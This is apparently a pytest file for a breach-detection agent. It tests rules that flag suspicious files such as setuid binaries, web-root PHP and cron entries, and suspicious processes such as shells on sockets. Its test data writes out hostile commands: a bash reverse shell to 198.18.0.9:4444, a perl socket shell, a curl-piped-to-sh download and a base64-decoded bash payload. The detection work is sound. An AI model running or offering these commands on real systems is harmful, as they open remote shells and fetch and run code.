"""What stands out of files and processes at a breach, by tables."""

import stat

import pytest

from fireline_agent.capture.intrusion import judge_file, judge_process

ELF = b"\x7fELF\x02\x01"
FILE = stat.S_IFREG
PEER = {b"socket:[7]": "198.18.0.9:4444"}


@pytest.mark.parametrize(
    ("path", "mode", "head", "capabilities", "codes"),
    [
        (b"/usr/bin/x", 0o4755, ELF, False, ["recent-setuid-file", "recent-system-program"]),
        (b"/opt/x", 0o2755, ELF, False, ["recent-setuid-file"]),
        (b"/opt/x", 0o4644, b"", False, []),
        (b"/opt/x", 0o755, ELF, True, ["recent-setuid-file"]),
        (b"/tmp/.x/a", 0o644, ELF, False, ["recent-program-in-temporary-folder"]),
        (b"/dev/shm/a", 0o755, b"#!/bin/sh\n", False, ["recent-program-in-temporary-folder"]),
        (b"/tmp/notes.sh", 0o644, b"#!/bin/sh\n", False, []),
        (b"/opt/tmp/a", 0o755, ELF, False, []),
        (b"/var/www/html/a.php", 0o644, b"", False, ["recent-script-in-web-root"]),
        (b"/var/lib/docker/volumes/v/_data/htdocs/a.PHP5", 0o644, b"", False, ["recent-script-in-web-root"]),
        (b"/var/www/html/cat.gif", 0o644, b"GIF89a<?php system", False, ["recent-script-in-web-root"]),
        (b"/var/www/html/cat.gif", 0o644, b"GIF89a", False, []),
        (b"/etc/cron.d/x", 0o644, b"* * * * *", False, ["recent-startup-file"]),
        (b"/home/bob/.ssh/authorized_keys", 0o600, b"", False, ["recent-startup-file"]),
        (b"/etc/hostname", 0o644, b"", False, []),
        (b"/usr/lib/x86_64-linux-gnu/libx.so.1", 0o644, ELF, False, ["recent-system-program"]),
    ],
)
def test_what_stands_out_of_a_recent_file(
    path: bytes, mode: int, head: bytes, *, capabilities: bool, codes: list[str]
) -> None:
    """Path, mode and first bytes decide; an ordinary file is not told."""
    found = judge_file(path, FILE | mode, head, has_capabilities=capabilities)

    assert [code for _, code, _ in found] == codes


@pytest.mark.parametrize(
    ("exe", "cmdline", "descriptors", "codes"),
    [
        (b"/bin/bash", ["[kworker/0:1]"], {0: b"socket:[7]"}, ["shell-on-socket"]),
        (b"/bin/bash (deleted)", ["bash"], {1: b"socket:[7]"}, ["shell-on-socket"]),
        (b"/usr/bin/python3.11", ["python3", "-c", "x"], {0: b"socket:[7]"}, ["shell-on-socket"]),
        # A command over ssh has a unix socket as its input; a server keeps its connections above the standard streams.
        (b"/bin/bash", ["bash"], {0: b"socket:[8]"}, []),
        (b"/usr/bin/python3.11", ["python3", "server.py"], {5: b"socket:[7]"}, []),
        (b"/usr/sbin/nginx", ["nginx"], {0: b"socket:[7]"}, []),
        (b"/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.18.0.9/4444 0>&1"], {}, ["suspicious-process"]),
        (b"/usr/bin/perl", ["perl", "-e", "use Socket; fsockopen(1)"], {}, ["suspicious-process"]),
        (b"/bin/sh", ["sh", "-c", "curl -s http://x/a | sh"], {}, ["suspicious-process"]),
        (b"/bin/sh", ["sh", "-c", "echo aGk= | base64 -d | bash"], {}, ["suspicious-process"]),
        (b"/bin/nc.openbsd", ["cat"], {}, ["suspicious-process"]),
        (b"/usr/bin/wget", ["wget", "http://x"], {}, ["suspicious-process"]),
        # The user's grep took these for it: nc, wget or curl anywhere in the line.
        (b"/usr/bin/rsync", ["rsync", "sync-curl-wget"], {}, []),
        (b"/bin/bash", ["bash", "-c", "make sync"], {}, []),
        (None, [], {}, []),
    ],
)
def test_what_stands_out_of_a_process(
    exe: bytes | None, cmdline: list[str], descriptors: dict[int, bytes], codes: list[str]
) -> None:
    """What it runs decides, not what it calls itself; a socket counts where it leads over the network."""
    assert [code for _, code, _ in judge_process(exe, cmdline, descriptors, PEER)] == codes


def test_a_command_line_is_told_without_its_secrets() -> None:
    """The sentence of a finding goes to many eyes: passwords in arguments and URLs are masked."""
    cmdline = ["curl", "-u", "admin:hunter2", "https://bob:hunter2@x/", "--header", "Authorization: hunter2"]

    [(_, _, summary)] = judge_process(b"/usr/bin/curl", cmdline, {}, {})

    assert "hunter2" not in summary
    assert "https://bob:[masked]@x/" in summary
